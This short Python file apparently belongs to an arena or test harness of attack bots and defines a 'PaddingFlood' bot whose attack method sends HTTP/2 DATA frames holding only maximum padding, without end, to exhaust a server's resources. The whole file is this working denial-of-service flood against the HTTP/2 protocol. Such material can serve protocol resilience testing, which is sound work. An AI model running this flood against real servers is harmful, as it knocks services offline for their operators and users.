"""Sends DATA frames that hold only padding, without end."""

from rawhttp2 import DATA, PADDED, RawBot, frame

from arenabot.v1 import player_pb2 as player


class PaddingFlood(RawBot):
    def attack(self, request: player.PlayRequest) -> None:
        self.flood(frame(DATA, bytes([255]) + bytes(255), flags=PADDED, stream=self.stream))


if __name__ == "__main__":
    PaddingFlood().serve()
